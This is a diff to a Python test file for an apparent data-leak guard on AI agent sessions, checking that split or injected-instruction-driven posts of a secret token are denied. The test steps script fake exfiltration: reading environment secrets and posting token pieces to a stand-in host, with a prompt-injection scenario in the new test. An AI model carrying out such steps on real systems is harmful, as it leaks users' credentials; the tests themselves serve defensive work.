@@ -796,11 +796,21 @@ def test_the_same_bytes_in_two_forms_count_once(prevent: Session) -> None:
 def test_a_secret_sent_in_small_pieces_is_caught_when_the_pieces_add_up(prevent: Session) -> None:
     pieces = [TOKEN[i : i + 9] for i in range(0, 27, 9)]
     steps = [fetch_page(), read_env()] + [
-        post(f"part {p}", f"https://collect.evil-host.example/{i}") for i, p in enumerate(pieces)
+        post(f"part {p}", f"https://drop.example.net/{i}") for i, p in enumerate(pieces)
     ]
     decisions = play(prevent, steps)
     assert [d.action for d in decisions[2:]] == [Action.ALLOW, Action.DENY, Action.DENY]
-    assert prevent.verdict().leaked_by_destination["evil-host.example"] == 9
+    assert prevent.verdict().leaked_by_destination["example.net"] == 9
+
+
+def test_a_small_piece_sent_where_an_injected_instruction_said_is_caught_at_once(
+    prevent: Session,
+) -> None:
+    steps = [fetch_page(), read_env(), post(f"part {TOKEN[:9]}")]
+    decision = play(prevent, steps)[-1]
+    assert decision.action is Action.DENY
+    assert [f.flow_class for f in decision.flows] == [FlowClass.EXFILTRATION]
+    assert decision.flows[0].leaked_bytes == 9
 
 
 def test_a_token_of_letters_sent_in_pieces_counts_every_piece(detect: Session) -> None:
